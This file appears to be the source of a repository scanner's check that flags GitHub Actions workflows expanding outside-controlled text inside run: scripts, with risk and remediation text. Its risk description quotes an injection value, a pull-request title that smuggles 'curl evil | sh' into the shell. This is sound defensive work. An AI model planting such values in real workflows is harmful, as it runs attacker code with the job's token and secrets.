import { defineCheck } from '../../core/check.js';
import { UNTRUSTED_CONTEXT } from './workflow-facts.js';

export const noScriptInjection = defineCheck({
  meta: {
    id: 'repo/no-script-injection',
    title: 'No attacker-controlled text is expanded inside run: scripts',
    severity: 'high',
    risk: 'GitHub substitutes `${{ }}` expressions into the script before the shell runs it. A pull-request title or issue body such as `"; curl evil | sh #` then runs as code with the job\'s token and secrets.',
    remediation: 'Pass the value through an environment variable and quote it in the script: `env: TITLE: ${{ github.event.pull_request.title }}` then `echo "$TITLE"`.',
    references: ['https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections'],
    controls: ['repository.script-injection'],
  },
  needs: ['github-repo'],
  messages: {
    injection: 'run: script in job "{{job}}" expands {{expression}}, which an outside contributor controls.',
  },
  run({ 'github-repo': repo }, { report }) {
    for (const wf of repo.workflows) {
      for (const job of wf.jobs) {
        for (const step of job.steps) {
          if (!step.run) continue;
          const seen = new Set<string>();
          for (const m of step.run.matchAll(UNTRUSTED_CONTEXT)) {
            const expr = m[0].replace(/\s+/g, ' ');
            if (seen.has(expr)) continue;
            seen.add(expr);
            const offset = step.run.slice(0, m.index).split('\n').length - 1;
            report({
              messageId: 'injection',
              data: { job: job.id, expression: expr },
              resource: { type: 'workflow-job', id: `${wf.path}#${job.id}` },
              // a block scalar (`run: |`) starts on the line after its indicator
              location: { path: wf.path, line: (step.runLine ?? step.line) + offset + (step.run.includes('\n') ? 1 : 0) },
              key: `${job.id}:${step.line}:${expr}`,
            });
          }
        }
      }
    }
  },
});
